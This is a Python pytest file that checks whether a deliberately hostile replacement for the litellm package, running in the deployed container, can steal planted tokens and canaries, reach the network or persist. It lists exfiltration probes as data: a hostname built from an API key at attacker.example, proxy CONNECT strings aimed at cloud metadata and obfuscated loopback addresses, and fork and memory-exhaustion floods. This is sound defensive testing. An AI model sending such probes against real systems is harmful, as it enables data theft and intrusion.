"""litellm turned malicious: a twin of it in the deployed image, in its container, called by the real gateway.

What it learns it tells in the text of an answer, which is read here from the container's socket, as the gateway would,
because the gateway takes out of a chat whatever looks like its secrets.
"""

from __future__ import annotations

import json
import shlex
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests import litellm_box
from tests.fakes import defaults, wire
from tests.hostile.attacker import Attacker
from tests.hostile.test_replies import shown
from tests.litellm_box import LLM
from tests.stack import GATEWAY, SANDBOX, Stack
from tests.weakened import create_arguments, deployed

PROVIDER = f"{defaults.ANTHROPIC_HOST}:443"
IMAGE = "picoclaw-twin:1"
PACKAGE = Path(__file__).with_name("twin") / "litellm"
OPENROUTER = {"provider": "openrouter", "api_key": defaults.OPENROUTER_KEY, "model": defaults.OPENROUTER_MODEL}
PORTS = (22, 53, 80, 443, 2375, 18790)
NAMES = (
    "api.telegram.org", "openrouter.ai", "api.openai.com", "site.example.org", "picoclaw", "host.docker.internal",
    f"{defaults.ANTHROPIC_KEY[-20:].lower()}.attacker.example",
)  # fmt: skip
# The container's program without its look at itself first: a weakened one would not serve.
UNCHECKED = (
    "import sys; sys.path.insert(0, '/opt/picoclaw'); from agent.llm_container import parent, process;"
    "parent.serve(parent.SOCKET_PATH, process.worker_command('/opt/picoclaw/agent/llm_container/__main__.pyc'))"
)


class Twin:
    """The hostile container, and what it must not learn."""

    def __init__(self, stack: Stack) -> None:
        self.stack = stack
        self.attacker = Attacker(stack)
        self.secrets = {
            "the bot token": defaults.TELEGRAM_TOKEN,
            "a second key": defaults.OPENROUTER_KEY,
            "a file of the workspace": f"canary-{uuid.uuid4().hex}",
            "another conversation": f"canary-{uuid.uuid4().hex}",
        }

    def plant(self) -> None:
        """Put secrets where the gateway and the sandbox have theirs."""
        self.attacker.run(f"echo {self.secrets['a file of the workspace']} > diary")
        self.attacker.say("noted", question=f"keep to yourself: {self.secrets['another conversation']}")
        self.stack.ask("/new")
        assert self.secrets["another conversation"].encode() in self.attacker.state()

    def build(self) -> None:
        """The deployed image with this repository's twin in litellm's place."""
        image = deployed(self.stack)[LLM].image
        remove = "import shutil; shutil.rmtree('/opt/picoclaw/litellm')"
        recipe = f"FROM {image}\nUSER 0\nRUN {json.dumps(['/usr/bin/python3', '-IBc', remove])}\n"
        files = {f"litellm/{file.name}": file.read_text(encoding="utf-8") for file in PACKAGE.glob("*.py")}
        files["Dockerfile"] = f"{recipe}COPY litellm /opt/picoclaw/litellm\nUSER 1000:1000\n"
        write = "; ".join(f"printf %s {shlex.quote(text)} > {name}" for name, text in files.items())
        build = f"cd $(mktemp -d) && umask 022 && mkdir litellm && {write}; docker build --quiet --tag {IMAGE} ."
        self.stack.lab.ssh("sh", stdin=build, check=True)

    def start(self, *add: str, drop: tuple[str, ...] = (), arguments: tuple[str, ...] = ()) -> None:
        """The twin in the place of picoclaw-llm, confined as that is, but for these options."""
        words = [*create_arguments(deployed(self.stack)[LLM], drop, add, image=IMAGE), *arguments]
        self.stack.lab.ssh(
            f"docker rm --force {LLM}; docker create {shlex.join(words)} && docker start {LLM}", check=True
        )

    def do(self, action: str, **arguments: Any) -> Any:
        """What one of its actions tells; see twin/litellm/__init__.py."""
        answer = litellm_box.ask(self.stack, "anthropic", f"TWIN {action} {json.dumps(arguments)}", timeout=60.0)
        assert answer.status_code == 200, answer.text
        return json.loads(answer.json()["choices"][0]["message"]["content"])

    def learned(self, told: Any) -> set[str]:
        """Which of the secrets are in what it tells."""
        text = json.dumps(told)
        return {name for name, secret in self.secrets.items() if secret in text}

    def reach(self) -> tuple[set[str], set[str]]:
        """Whom it reached without the proxy, and through it."""
        addresses = [*self.attacker.addresses.values(), "1.1.1.1", "169.254.169.254", "172.17.0.1", "192.168.1.1"]
        told = self.do("reach", addresses=addresses, ports=PORTS, names=NAMES, heads=self._heads())
        direct = {**told["tcp"], **told["udp"], **told["names"]}
        assert len(direct) >= len(addresses) * len(PORTS)
        reached = {where for where, answer in direct.items() if answer not in ("ENETUNREACH", "EAI -3", "EAI -2")}
        return reached, {head for head, answer in told["proxied"].items() if " 200" in answer}

    def _heads(self) -> list[str]:
        provider, own = defaults.ANTHROPIC_HOST, self.attacker.addresses
        targets = [
            PROVIDER, f"{provider}:80", f"{provider}:8443", f"{provider}:22", f"{provider}.attacker.example:443",
            f"{provider}@attacker.example:443", *(f"{name}:443" for name in NAMES), "localhost:18790",
            "127.0.0.1:18790", "[::1]:18790", "0x7f.1:18790", "2130706433:18790", "0.0.0.0:18790", "picoclaw:18790",
            "169.254.169.254:80", "169.254.169.254:443", "1.1.1.1:443", "1.1.1.1:53",
            *(f"{address}:{port}" for address in own.values() for port in (443, 18790)),
            f"{self.stack.lab.state.subnet.services()[provider]}:443",
        ]  # fmt: skip
        return [
            *(f"CONNECT {target} HTTP/1.1\r\nHost: {PROVIDER}\r\n\r\n" for target in dict.fromkeys(targets)),
            "GET http://site.example.org/ HTTP/1.1\r\nHost: site.example.org\r\n\r\n",
            f"GET http://{PROVIDER}/ HTTP/1.1\r\nHost: {PROVIDER}\r\n\r\n",
            f"POST http://127.0.0.1:18790/ HTTP/1.1\r\nHost: {PROVIDER}\r\n\r\n",
            f"CONNECT site.example.org:443\r\nHost: {PROVIDER}\r\n\r\n",
            f"CONNECT {PROVIDER} CONNECT site.example.org:443 HTTP/1.1\r\n\r\n",
        ]

    def processes(self) -> int:
        """How many run in its container."""
        return len(self.stack.lab.ssh(f"docker top {LLM}", check=True).stdout.splitlines()) - 1

    def left_behind(self) -> list[Path]:
        """What lies beside its socket, seen from outside."""
        folder = self.stack.lab.places.root / "var/lib/docker/volumes/picoclaw-llm-socket/_data"
        seen = Path(f"/proc/{self.stack.lab.host_pid}/root") / folder.relative_to(self.stack.lab.places.root)
        return [path for path in seen.iterdir() if path.name != "llm.sock"]

    def assert_answering(self) -> None:
        """The owner's next message is answered, by the twin or its stand-in, whatever became of the twin."""
        assert self.stack.ask("hello", timeout=90) == "twin", self.stack.logs(LLM)

    def restart(self) -> None:
        """`docker restart`, until it listens again: before, a dead socket may lie in its place."""
        said = "listening on /run/llm/llm.sock"
        before = self.stack.logs(LLM).count(said)
        self.stack.lab.ssh(f"docker restart --time 5 {LLM}", check=True)
        self.stack.wait_for(lambda: self.stack.logs(LLM).count(said) > before, 30, lambda: self.stack.logs(LLM))

    def assert_serving(self) -> None:
        """The container answers by itself."""
        answer = litellm_box.ask(self.stack, "anthropic", "hello", timeout=60.0)
        assert answer.json()["choices"][0]["message"]["content"] == "twin", answer.text

    def forget(self) -> None:
        """A new conversation; and the model that failed before is asked again, which would else rest for a while."""
        fakes = self.stack.fakes
        if any(request.host == defaults.OPENROUTER_HOST for request in fakes.llm_requests()):
            self.stack.lab.ssh(f"docker restart {GATEWAY}", check=True)
            self.stack.wait_ready()
        fakes.reset()
        fakes.rules([wire.Rule(match="", reply=wire.Reply(text="twin"))])
        self.stack.ask("/new")


@pytest.fixture(scope="module")
def hostile(fresh: Stack, first_deploy: str, redeployed: Callable[[], None]) -> Iterator[Twin]:
    """The twin at work, in a product that has more to lose than its one key."""
    assert first_deploy
    fresh.wait_ready()
    twin = Twin(fresh)
    twin.attacker.forget()
    twin.plant()
    with litellm_box.deployed(fresh, **litellm_box.model("anthropic"), fallbacks=[OPENROUTER]):
        twin.build()
        twin.start()
        yield twin
    redeployed()


@pytest.fixture
def twin(hostile: Twin) -> Iterator[Twin]:
    """The twin; afterwards the bot answers, nobody else was ended by it, and nothing has got out."""
    hostile.forget()
    hostile.assert_answering()
    lives, outside = hostile.attacker.lives(), hostile.attacker.outside()
    yield hostile
    hostile.assert_answering()
    assert hostile.attacker.lives() == lives, f"{GATEWAY} or {SANDBOX} was restarted"
    assert hostile.attacker.outside() == outside, "something got out"
    assert all(call.token_ok for call in hostile.stack.fakes.calls())


def test_it_learns_nothing_but_its_calls(twin: Twin) -> None:
    told = twin.do("look")
    assert defaults.ANTHROPIC_KEY in json.dumps(told["calls"]), "it has not been called as litellm would be"
    assert "hello" in json.dumps(told["calls"])
    assert {"/etc/hosts", "/etc/passwd"} <= set(told["files"]), "it has read nothing"
    assert "/run/llm" in told["processes"]["/proc/1/mountinfo"]
    assert twin.learned(told) == set()


def test_what_it_can_touch(twin: Twin) -> None:
    told = twin.do("look")
    assert {path for path, answer in told["sockets"].items() if answer not in ("ENOENT", "EACCES")} == set()
    assert set(told["abstract"]) == {"@picoclaw-health"}
    assert {path for path, answer in told["written"].items() if "done" in answer} == {"/tmp", "/run/llm", "/dev/shm"}
    others = {name: answer for name, answer in told["processes"].items() if "/mem" in name}
    assert set(others.values()) == {"EACCES"}, f"the memory of another process can be used: {others}"


def test_it_reaches_its_provider_alone(twin: Twin) -> None:
    direct, proxied = twin.reach()
    assert direct == set()
    allowed = f"CONNECT {PROVIDER} HTTP/1.1\r\nHost: {PROVIDER}\r\n\r\n"
    assert proxied == {f"loopback: {allowed}", f"socket: {allowed}"}
    assert {request.host for request in twin.stack.fakes.llm_requests()} <= {defaults.ANTHROPIC_HOST}
    assert "llm, refused: openrouter.ai:443 is not allowed" in twin.stack.logs()


def test_nothing_of_it_outlives_a_restart(twin: Twin) -> None:
    twin.do("persist")
    twin.restart()
    twin.assert_serving()
    assert twin.processes() == 2, "the first process and its worker"
    assert twin.left_behind() == []
    assert "twin-was-here" not in json.dumps(twin.do("look")["files"])


FLOODS = ("fill", "swallow", "fork", "leave", "murder")


@pytest.mark.parametrize("flood", FLOODS)
def test_floods(twin: Twin, flood: str) -> None:
    """It harms itself alone, and not longer than until it is started again."""
    try:
        twin.do(flood)
    except httpx.TransportError:
        pass  # its worker is gone
    except AssertionError as error:
        assert "litellm" in str(error)  # noqa: PT017 - the parent says what became of its worker
    twin.assert_answering()
    twin.restart()
    twin.assert_serving()
    assert twin.processes() == 2, "the first process and its worker"
    assert twin.left_behind() == []


POISONS = (
    "endless text", "endless calls", "a line without an end", "an event without an end", "a huge id", "many calls",
    "a name that is none", "an index beyond counting", "escapes", "what is no text", "half a character",
    "usage beyond counting", "usage just countable", "usage of the negative", "usage that is none", "no end",
)  # fmt: skip


@pytest.mark.parametrize("poison", POISONS)
def test_poisoned_answers(twin: Twin, poison: str) -> None:
    """The owner reads something that does no harm, and the next message is answered."""
    said = twin.stack.ask(f"TWIN poison {poison}", timeout=60)
    assert said
    assert shown(said), repr(said)
    assert shown(twin.stack.logs().replace("\n", ""))


def test_it_is_seen_what_it_learns_when_it_can(hostile: Twin) -> None:
    """The same looks at a container with all that it should not have: or they would have shown nothing."""
    volumes = {
        "/opt/stacks/picoclaw/config": "/etc/picoclaw",
        "picoclaw_picoclaw-workspace": "/workspace",
        "picoclaw-state": "/var/lib/picoclaw",
    }
    hostile.start(
        *(f"--volume={source}:{target}" for source, target in volumes.items()),
        "--network=bridge",
        "--entrypoint=/usr/bin/python3",
        drop=("--network",),
        arguments=("-ISOOc", UNCHECKED),
    )
    assert hostile.learned(hostile.do("look")) == set(hostile.secrets)
    direct, _ = hostile.reach()
    assert "1.1.1.1:443" in direct
